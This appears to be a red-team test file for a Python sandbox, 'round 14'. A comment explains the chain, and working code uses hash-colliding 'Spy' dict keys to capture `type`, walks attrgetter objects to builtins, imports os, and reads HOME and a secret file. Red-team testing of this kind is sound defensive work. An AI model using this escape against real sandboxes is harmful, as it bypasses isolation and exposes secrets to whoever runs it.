# family: class machinery (red-team round 14: type(x) reaching the tool's code)
# Chain: a dict display whose keys are the tool's objects counts as a "plain dict" peer for
# `table.get(type(c))` (peers._lookup_peer).  But a dict lookup calls the STORED key's __eq__ with the
# looked-up key when the hashes match.  Spy keys hash to hash(int)+k for a range of k, one of which is
# hash(type) (PyType_Type sits next to PyLong_Type in libpython), so Spy.__eq__ receives `type` itself
# when c is a class.  With `type` in hand: type(attrgetter("x")) is the attrgetter class, which builds
# getters with run-time names -> run.__globals__ -> builtins -> __import__("os") / open(secret).
import operator


class Spy:
    def __init__(self, h, box):
        self.h = h
        self.box = box

    def __hash__(self):
        return self.h

    def __eq__(self, other):
        self.box.append(other)
        return False


def metaclass_of(c):
    box = []
    base = hash(int)
    table = {Spy(base + k, box): "x" for k in range(-70000, 70000)}
    table.get(type(c))
    return box[0]


def run():
    meta = metaclass_of(int)
    getter_class = meta(operator.attrgetter("real"))
    u = "_"
    g = getter_class(u + u + "globals" + u + u)(run)
    b = g[u + u + "builtins" + u + u]
    if isinstance(b, dict):
        imp = b[u + u + "import" + u + u]
        opener = b["open"]
    else:
        imp = getter_class(u + u + "import" + u + u)(b)
        opener = getter_class("open")(b)
    osmod = imp("os")
    print("meta:", meta)
    print("module:", osmod)
    print("env HOME:", osmod.environ.get("HOME"))
    print("secret:", opener("/tmp/r14/work/secret.txt").read())


run()
